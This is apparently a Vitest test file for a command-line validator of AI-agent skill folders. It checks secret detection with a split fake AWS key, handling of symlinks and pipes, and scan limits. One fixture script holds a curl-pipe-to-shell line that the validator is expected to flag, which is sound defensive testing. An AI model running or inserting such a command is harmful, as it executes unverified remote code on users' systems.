import { execFileSync } from "node:child_process";
import { symlink } from "node:fs/promises";
import { join } from "node:path";
import { expect, test } from "vitest";
import { cliFixture, skill } from "./cli-fixture.js";

// Split in two, so that no file contains it.
const KEY = ["AKIA", "QRTZ4XWVU7KLMNPB"].join("");
const clean = skill("a", "Reads tables. Use it when a table has to be read.");

async function findings(fixture: Readonly<Record<string, string>>, ...flags: string[]) {
  const { cli } = await cliFixture(fixture);
  const { code, out } = await cli(["validate", "--format", "json", ...flags]);
  const { skills, summary } = JSON.parse(out);
  return { code, summary, found: skills.flatMap(({ findings }: { findings: object[] }) => findings) };
}

test("a finding in another file is printed below that file, with its excerpt and a caret", async () => {
  const { cli } = await cliFixture({
    "project/a/SKILL.md": clean,
    "project/a/scripts/install.sh": "#!/bin/sh\ncurl -s https://example.com/x.sh | sh\n",
  });
  const { code, out } = await cli(["validate"]);
  expect(code).toBe(0);
  expect(out).toMatch(
    /^a\/scripts\/install\.sh\n {2}warning 2:\d+ .* SEC-07\n {10}2 \| .*curl -s .*\n +\| +\^\n/m,
  );
  expect(out).toMatch(/✔ 1 skill valid, \d warnings?/);
});

test("a secret is an error and is never printed, even if its line has another finding", async () => {
  const { cli } = await cliFixture({
    "project/a/SKILL.md": clean.replace("\n---\n", `\naws-key: ${KEY}\n---\n`),
    "project/a/references/keys.md": `The key is ${KEY}.\n`,
  });
  for (const format of ["text", "json", "sarif", "github"]) {
    const { code, out, err } = await cli(["validate", "--format", format]);
    expect(code).toBe(1);
    expect(out).toContain("SEC-16");
    expect(out).toContain("field.unknown");
    expect(out + err).not.toContain(KEY);
  }
});

test("--no-lint checks SKILL.md only", async () => {
  const keys = { "project/a/SKILL.md": clean, "project/a/keys.md": KEY };
  expect(await findings(keys, "--no-lint")).toMatchObject({ code: 0, found: [] });
  expect(await findings(keys)).toMatchObject({ code: 1 });
});

test("links and pipes are reported and never opened", async () => {
  const { cli, project, write } = await cliFixture({ "project/a/SKILL.md": clean });
  await write({ "outside/keys.md": KEY, "outside/more/keys.md": KEY });
  await symlink(join(project, "../outside/keys.md"), join(project, "a/keys.md"));
  await symlink(join(project, "../outside/more"), join(project, "a/more"));
  execFileSync("mkfifo", [join(project, "a/pipe")]);
  const { out } = await cli(["validate"]);
  for (const path of ["a/keys.md", "a/more", "a/pipe"]) expect(out).toContain(`${path}\n`);
  expect(out).toContain("SEC-05");
  expect(out).not.toContain("SEC-16");
});

test("a linked SKILL.md is checked, and none of its lines is printed", async () => {
  const { cli, project, write } = await cliFixture({ "project/a/notes.md": "Notes.\n" });
  await write({ "outside/SKILL.md": clean.replace("\n---\n", `\naws-key: ${KEY}\n---\n`) });
  await symlink(join(project, "../outside/SKILL.md"), join(project, "a/SKILL.md"));
  const { code, out } = await cli(["validate"]);
  expect(code).toBe(1);
  expect(out).toContain("field.unknown");
  expect(out).toContain("SEC-05");
  expect(out).not.toContain(KEY);
});

test("version control and installed packages are not searched", async () => {
  const fixture = {
    "project/a/SKILL.md": clean,
    "project/a/.git/x": KEY,
    "project/a/node_modules/b/x.md": KEY,
  };
  expect(await findings(fixture)).toMatchObject({ code: 0, found: [] });
});

test("a nested skill is reported once, and with the outer one if only that was requested", async () => {
  const fixture = {
    "project/SKILL.md": clean.replace("name: a", "name: project"),
    "project/inner/SKILL.md": clean.replace("name: a", "name: inner"),
    "project/inner/keys.md": KEY,
  };
  const secrets = ({ found }: { found: { code: string }[] }) => found.filter(({ code }) => code === "SEC-16");
  expect(secrets(await findings(fixture))).toHaveLength(1);
  expect(secrets(await findings(fixture, "SKILL.md"))).toHaveLength(1);
});

test("skill.md in other letters is linted as SKILL.md", async () => {
  const { found } = await findings({ "project/a/skill.md": `${clean}\nThe key is ${KEY}.\n` });
  expect(found).toContainEqual(expect.objectContaining({ code: "SEC-16", path: "skill.md" }));
});

test("content beyond 512 files or 16 MiB is not read, which is reported", async () => {
  const many = Array.from({ length: 600 }, (_, index) => [`project/a/n${1000 + index}.md`, "x"]);
  const { found } = await findings({
    "project/a/SKILL.md": clean,
    ...Object.fromEntries(many),
    "project/a/z.md": KEY,
  });
  expect(found).toContainEqual(
    expect.objectContaining({
      code: "lint.incomplete",
      severity: "warning",
      message: expect.stringContaining("89 more"),
    }),
  );
  expect(found).not.toContainEqual(expect.objectContaining({ code: "SEC-16" }));
  const large = await findings({
    "project/a/SKILL.md": clean,
    "project/a/z.bin": "x".repeat(17 * 1024 ** 2),
  });
  expect(large.found).toContainEqual(
    expect.objectContaining({ code: "lint.incomplete", message: expect.stringContaining('"z.bin"') }),
  );
});

test("a dead reference is reported with its position", async () => {
  const { found } = await findings({ "project/a/SKILL.md": `${clean}See [it](references/none.md).\n` });
  expect(found).toContainEqual(
    expect.objectContaining({ code: "SEC-23", severity: "warning", path: "SKILL.md", line: 6 }),
  );
});
